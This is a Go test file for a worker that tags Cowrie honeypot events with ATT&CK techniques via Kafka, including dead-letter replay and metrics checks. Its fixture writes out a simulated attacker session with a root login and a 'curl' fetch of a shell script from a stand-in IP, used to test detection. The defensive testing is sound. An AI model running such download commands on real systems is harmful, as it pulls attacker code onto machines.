package app_test

import (
	"bufio"
	"cmp"
	"errors"
	"fmt"
	"log/slog"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	gocmp "github.com/google/go-cmp/cmp"
	"github.com/twmb/franz-go/pkg/kgo"

	"ttpworker/internal/app"
	"ttpworker/internal/deadletter"
	"ttpworker/internal/kafkatest"
	"ttpworker/internal/rule"
	"ttpworker/internal/tagger"
	"ttpworker/internal/wire"
	"ttpworker/rules"
)

func cowrieDecoder(t *testing.T) *wire.Decoder {
	t.Helper()
	dec, err := wire.NewDecoderOf(wire.Cowrie, wire.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	return dec
}

// What honeypots really write: every line is an event or skipped, none is a fault, and the shipped rules find something.
// go test -v prints the figures.
func TestEveryLineOfRealHoneypotsIsAnEventOrSkipped(t *testing.T) {
	t.Parallel()
	f, err := os.Open("../../../shared/corpus/cowrie_raw.jsonl")
	if err != nil {
		t.Skipf("no corpus: %v", err)
	}
	defer func() { _ = f.Close() }()
	pack, err := rule.NewParser(rule.DefaultMaxBytes).Load(rules.Pack(), ".", "rules/ttp")
	if err != nil {
		t.Fatal(err)
	}
	plan, dec := planOf(pack), cowrieDecoder(t)
	became, techniques, ids, attackers, n := map[string]int{}, map[string]int{}, map[string]struct{}{}, map[string]struct{}{}, 0
	lines := bufio.NewScanner(f)
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		n++
		ev, repairs, err := dec.Event(lines.Bytes(), time.Time{})
		if skip, ok := errors.AsType[wire.SkipError](err); ok {
			became["skipped: "+string(skip.Reason)]++
			continue
		}
		if err != nil || repairs != 0 {
			t.Errorf("line %d: %d repairs, %v", n, repairs, err)
			continue
		}
		became[ev.SourceKind]++
		ids[ev.SourceID], attackers[ev.AttackerUUID] = struct{}{}, struct{}{}
		if ev.AttackerUUID == "" || ev.SessionID == "" || ev.EventTime.IsZero() {
			t.Errorf("line %d: an event without attacker, session or time", n)
		}
		for _, tag := range tagsOf(t, plan, &ev) {
			techniques[tag.Technique()]++
		}
	}
	if err := lines.Err(); err != nil {
		t.Fatal(err)
	}
	if n == 0 || became["command"] == 0 || became["auth_attempt"] == 0 || became["session"] == 0 || techniques["T1105"] == 0 {
		t.Errorf("%d lines became %v with the techniques %v, want commands, logins and sessions, and downloads found", n, became, techniques)
	}
	t.Logf("%d lines: %v; %d ids, %d attackers", n, became, len(ids), len(attackers))
	t.Logf("tags: %v", mostFirst(techniques))
}

// mostFirst lists counts, the highest first.
func mostFirst(counts map[string]int) []string {
	names := slices.SortedFunc(maps.Keys(counts), func(a, b string) int {
		return cmp.Or(cmp.Compare(counts[b], counts[a]), cmp.Compare(a, b))
	})
	for i, name := range names {
		names[i] = fmt.Sprintf("%s %d", name, counts[name])
	}
	return names
}

// cowrieLines are what a session of a download leaves behind, and then one of a login with an old release.
func cowrieLines(session int) []string {
	common := fmt.Sprintf(`"session":"%012x","src_ip":"198.51.100.%d","sensor":"decoy-1","protocol":"ssh"`, session, session%200)
	at := func(second int) string {
		return fmt.Sprintf(`"timestamp":"2026-01-31T12:%02d:%02d.000001Z"`, session%60, second)
	}
	return []string{
		`{"eventid":"cowrie.session.connect","src_port":40000,"dst_port":2222,` + common + `,` + at(0) + `}`,
		`{"eventid":"cowrie.login.success","username":"root","password":"",` + common + `,` + at(1) + `}`,
		`{"eventid":"cowrie.command.input","input":"curl http://203.0.113.9/a.sh",` + common + `,` + at(2) + `}`,
		`{"eventid":"cowrie.command.input","input":null,` + common + `,` + at(3) + `}`,
		`{"eventid":"cowrie.session.closed","duration":"4.0",` + common + `,` + at(4) + `}`,
		`{"eventid":"cowrie.not.yet",` + common + `,` + at(5) + `}`,
	}
}

// Raw events without key or id come out as tags, in the order and the partition of their events, under keys that follow
// from their content; what says nothing is counted, and nothing is a dead letter.
func TestEventsOfCowrieAreTaggedThroughKafka(t *testing.T) {
	t.Parallel()
	const sessions = 60
	c := kafkatest.Start(t)
	cfg := quickConfig(t, c)
	cfg.Input.Format = wire.Cowrie
	w := startWorker(t, cfg, slog.New(slog.DiscardHandler))
	w.ready(t)
	var recs []*kgo.Record
	want, dec := map[string]string{}, cowrieDecoder(t) // by the partition and key of its tag, what the event must be
	for i := range sessions {
		for _, line := range cowrieLines(i) {
			recs = append(recs, &kgo.Record{Partition: int32(i % 6), Value: []byte(line)})
			ev, _, err := dec.Event([]byte(line), time.Time{})
			if err == nil && ev.SourceKind == "command" {
				id := tagger.TagID(&ev, "R1", &tagger.Emit{Tactic: "TA0006", TechniqueID: "T1003"})
				want[fmt.Sprintf("%d/%s", i%6, id)] = strings.Join([]string{ev.SourceID, ev.AttackerUUID, ev.SessionID, ev.DeckyID, ev.EventTime.String()}, " ")
			}
		}
	}
	write(t, c, recs...)
	kafkatest.Eventually(t, "all records to be committed", func() bool { return sum(committed(t, c, cfg)) >= int64(len(recs)) })
	_, metrics := w.get(t, "/metrics")
	for _, line := range []string{
		`ttp_pipeline_events_total{outcome="skipped"} 240`, `ttp_pipeline_events_total{outcome="tagged"} 60`, `ttp_pipeline_events_total{outcome="unchanged"} 60`,
		`ttp_pipeline_events_total{outcome="malformed"} 0`, `ttp_pipeline_skipped_records_total{reason="bookkeeping"} 120`,
		`ttp_pipeline_skipped_records_total{reason="empty"} 60`, `ttp_pipeline_skipped_records_total{reason="unknown_eventid"} 60`,
	} {
		if !strings.Contains(metrics, line+"\n") {
			t.Errorf("the metrics lack %s", line)
		}
	}
	if err := w.stop(); err != nil {
		t.Errorf("Wait = %v", err)
	}
	c.Settle(t, cfg.Topics.Tags.Name, cfg.Topics.DLQ.Name)
	got, last := map[string]string{}, map[int32]time.Time{}
	for _, r := range c.ReadAll(t, cfg.Topics.Tags.Name) {
		tag, _, err := dec.Tag(r.Value)
		if err != nil {
			t.Fatal(err)
		}
		got[fmt.Sprintf("%d/%s", r.Partition, r.Key)] = strings.Join([]string{tag.SourceID, tag.AttackerUUID, tag.SessionID, tag.DeckyID, tag.EventTime.String()}, " ")
		if tag.EventTime.Before(last[r.Partition]) {
			t.Errorf("tag of %s behind that of %s in partition %d", tag.EventTime, last[r.Partition], r.Partition)
		}
		last[r.Partition] = tag.EventTime
	}
	if diff := gocmp.Diff(want, got); diff != "" || len(want) != sessions {
		t.Errorf("%d tags by partition and key (-want +got):\n%s", len(want), diff)
	}
	if letters := c.ReadAll(t, cfg.Topics.DLQ.Name); len(letters) != 0 {
		t.Errorf("%d dead letters, the first for %s; want none", len(letters), header(letters[0], "ttp-error"))
	}
}

// What was written in another format is a dead letter, and comes back when the format is right: replay judges by the
// configuration that it is given, and what will be skipped is no fault.
func TestDeadLettersOfTheWrongFormatAreReplayed(t *testing.T) {
	t.Parallel()
	log := slog.New(slog.DiscardHandler)
	c := kafkatest.Start(t)
	cfg := quickConfig(t, c)
	wrong := cfg // the default: tagger_event
	cfg.Input.Format = wire.Cowrie
	run := func(cfg app.Config, records int64) {
		t.Helper()
		w := startWorker(t, cfg, log)
		w.ready(t)
		kafkatest.Eventually(t, "all records to be committed", func() bool { return sum(committed(t, c, cfg)) >= records })
		if err := w.stop(); err != nil {
			t.Errorf("Wait = %v", err)
		}
		c.Settle(t, cfg.Topics.Tags.Name, cfg.Topics.DLQ.Name)
	}
	conn, err := app.Connect(t.Context(), wrong, log) // creates the topics
	if err != nil {
		t.Fatal(err)
	}
	conn.Close()
	lines := cowrieLines(7)
	for _, line := range append(lines, `{"eventid":"cowrie.command.input"}`) {
		write(t, c, &kgo.Record{Value: []byte(line)})
	}
	run(wrong, int64(len(lines)+1))
	if got := len(c.ReadAll(t, cfg.Topics.DLQ.Name)); got != len(lines)+1 {
		t.Fatalf("%d dead letters, want %d", got, len(lines)+1)
	}
	report, err := app.ReplayDeadLetters(t.Context(), cfg, log, deadletter.Replay{By: "tester"}, true)
	if err != nil || report.Replayed != len(lines) || len(report.Stuck) != 1 || report.Stuck[0].Letters != 1 ||
		report.Stuck[0].Detail != "bad_field: timestamp is missing or null, want a string" {
		t.Fatalf("replay = %+v, %v, want %d replayed and why one is not", report, err, len(lines))
	}
	run(cfg, int64(2*len(lines)+1))
	if tags := lastTags(t, c); len(tags) != 1 {
		t.Errorf("%d tags, want that of the download: %v", len(tags), tags)
	}
}

// Input in a format without schemas has no subject in a schema registry.
func TestSubjectsOfCowrieAreThoseOfTheOutputs(t *testing.T) {
	t.Parallel()
	cfg := app.DefaultConfig()
	all := app.Subjects(cfg)
	cfg.Input.Format = wire.Cowrie
	if diff := gocmp.Diff(all[1:], app.Subjects(cfg)); diff != "" || !all[0].Input {
		t.Errorf("Subjects (-all but the input +of cowrie):\n%s", diff)
	}
}
